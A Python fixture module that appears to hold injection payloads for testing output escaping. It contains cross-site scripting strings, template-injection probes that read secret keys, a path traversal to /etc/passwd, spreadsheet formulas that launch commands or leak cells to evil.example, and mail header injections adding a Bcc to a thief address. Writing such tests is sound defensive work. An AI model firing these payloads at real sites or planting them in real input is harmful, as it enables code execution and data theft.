"""Texts that are more than text to something: a browser, a spreadsheet, a mail, a template.

Each payload for a browser leaves the sign `xq7` where it broke out: as the name of an attribute,
an element, an id or a call of `alert`. Where it stays data, nothing on the page carries the sign.
"""

from typing import Final

SIGN: Final = "xq7"
# What a template that ran its input would print: the product is in none of the payloads.
RAN: Final = "1000403"

IN_PAGES: Final = {
    "script": "<script xq7>alert('xq7')</script>",
    "script with a source": "<script xq7 src=//evil.example/x.js></script>",
    "script in capitals": "<ScRiPt xq7>alert('xq7')</sCrIpT>",
    "script that is cut": "<script xq7>alert('xq7')//",
    "script inside a script": "<scr<script xq7>ipt>alert('xq7')</script>",
    "end of a script": "</script><script xq7>alert('xq7')</script>",
    "end of a title": "</title><script xq7>alert('xq7')</script>",
    "end of a text area": "</textarea><svg xq7 onload=alert('xq7')>",
    "end of a choice": "</option></select><img xq7 src=x onerror=alert('xq7')>",
    "end of a comment": "--><img xq7 src=x onerror=alert('xq7')><!--",
    "CDATA": "]]><img xq7 src=x onerror=alert('xq7')>",
    "picture": "<img xq7 src=x onerror=alert('xq7')>",
    "picture with slashes": "<img/xq7/src=x/onerror=alert('xq7')>",
    "picture on two lines": "<img xq7\nsrc=x\nonerror=alert('xq7')>",
    "picture of another host": "<img xq7 src=https://evil.example/pixel.png>",
    "svg": "<svg xq7 onload=alert('xq7')>",
    "svg with a script": "<svg xq7><script>alert('xq7')</script></svg>",
    "svg with an animation": "<svg xq7><animate onbegin=alert('xq7') attributeName=x></svg>",
    "svg with another's picture": "<svg xq7><use href='https://evil.example/a.svg#a'/></svg>",
    "mathematics": "<math xq7><a xlink:href='javascript:alert(1)' xq7>x</a></math>",
    "mutation by a no-script": "<noscript><p xq7 title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by a style in svg": "<svg xq7></p><style><a id='</style><img src=1 onerror=alert(1)>"
    "'>",
    "mutation by a form": "<form xq7><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "frame": "<iframe xq7 srcdoc='<script>alert(1)</script>'></iframe>",
    "frame of a script address": "<iframe xq7 src=javascript:alert('xq7')>",
    "object": "<object xq7 data='data:text/html,<script>alert(1)</script>'></object>",
    "embedded": "<embed xq7 src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "details": "<details xq7 open ontoggle=alert('xq7')>",
    "video": "<video xq7><source onerror=alert('xq7')></video>",
    "focus": "<input xq7 autofocus onfocus=alert('xq7')>",
    "marquee": "<marquee xq7 onstart=alert('xq7')>",
    "base": "<base xq7 href='https://evil.example/'>",
    "refresh": "<meta xq7 http-equiv=refresh content='0;url=https://evil.example/'>",
    "style": "<style xq7>@import 'https://evil.example/a.css';*{display:none}</style>",
    "sheet": "<link xq7 rel=stylesheet href=https://evil.example/a.css>",
    "form of another host": "<form xq7 action=https://evil.example/><button>OK</button></form>",
    "button of another host": "<button xq7 formaction=javascript:alert('xq7')>OK</button>",
    "clobbered name": "<form xq7 id=xq7-clobber name=body><input name=xq7-attributes></form>",
    "clobbered twice": "<a id=xq7-clobber xq7></a><a id=xq7-clobber name=url href=clobbered:1>",
    "double quote": '" autofocus onfocus="alert(1)" xq7="',
    "single quote": "' autofocus onfocus='alert(1)' xq7='",
    "no quote": "x onmouseover=alert(1) xq7",
    "back quote": "` onmouseover=alert(1) xq7=`",
    "end of an attribute": '"><img xq7 src=x onerror=alert(1)>',
    "end of an attribute, single": "'><img xq7 src=x onerror=alert(1)>",
    "script address": "javascript:alert('xq7')",
    "script address in capitals": "JaVaScRiPt:alert('xq7')//",
    "script address with a tab": "java\tscript:alert('xq7')",
    "script address after a control": "\x01javascript:alert('xq7')",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address without a scheme": "//evil.example/xq7",
    "backslash address": "\\\\evil.example\\xq7",
    "escaped once": "&lt;img xq7 src=x onerror=alert(1)&gt;",
    "escaped by number": "&#60;img xq7 src=x onerror=alert(1)&#62;",
    "percent signs": "%3Cimg xq7 src=x onerror=alert(1)%3E",
    "escapes of a script": "\\x3cimg xq7 src=x onerror=alert(1)\\x3e\\u003c",
    "full-width brackets": "＜img xq7 src=x onerror=alert(1)＞",
    "overlong look-alike": "\u2039img xq7\u203a \u02baonload=alert(1)\u02ba",
    "a template": "{{ 811*1233+440 }} {{811*1233+440}}",
    "another template": "${811*1233+440} #{811*1233+440} <%= 811*1233+440 %>",
    "a statement of a template": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}",
    "the settings in a template": "{{ config.SECRET_KEY }}{{ config.items() }}",
    "a format of Python": "{0.__class__.__init__.__globals__} {secret} {}",
    "an old format of Python": "%(num)s %(name)s %s %n %d %%",
    "direction override": "amina\u202egpj.exe\u2066\u2069\u200f",
    "control characters": "a\x07b\x1b[31mc\x7f\u2028d\u0085e",
    "file name": 'photo.jpg"><img xq7 src=x onerror=alert(1)>.svg',
    "path": "../../../etc/passwd",
}

# What a spreadsheet would run, with the ways past a guard that looks at the first letter only.
FORMULAS: Final = {
    "equals": "=1+1",
    "link": '=HYPERLINK("https://evil.example/?"&A1;"ok")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "minus with a sum": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": " =1+1",
    "no-break space": "\u00a0=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1)",
    "another minus": "\u22121+1",
    "byte order mark": "\ufeff=1+1",
    "invisible": "\u200b=1+1",
    "next cell": ";=1+1",
    "next cell with a comma": ",=1+1",
    "next cell by a quote": '";=1+1;"',
    "next line by a quote": '"\r\n=1+1;"',
    "quoted": '"=1+1"',
    "imported": '=IMPORTXML("https://evil.example/";"//a")',
    "DDE": '=DDE("cmd";"/C calc";"x")',
}

# What would end a header or a line of the log and begin another.
LINE_BREAKS: Final = {
    "CR LF": "a\r\nBcc: thief@evil.example",
    "LF": "a\nBcc: thief@evil.example",
    "CR": "a\rBcc: thief@evil.example",
    "CR LF twice": "a\r\n\r\n<script xq7>alert(1)</script>",
    "folded": "a\r\n Bcc: thief@evil.example",
    "next line": "a\u0085Bcc: thief@evil.example",
    "line separator": "a\u2028Bcc: thief@evil.example",
    "vertical tab": "a\x0bBcc: thief@evil.example",
    "NUL": "a\x00Bcc: thief@evil.example",
    "quote": 'a"; filename="evil.html',
    "encoded": "=?utf-8?q?a=0D=0ABcc:_thief=40evil.example?=",
    "percent": "a%0d%0aBcc:%20thief@evil.example",
}


def all_in_one(payloads: dict[str, str] = IN_PAGES) -> str:
    """Every payload in one text, one after the other."""
    return " ".join(payloads.values())
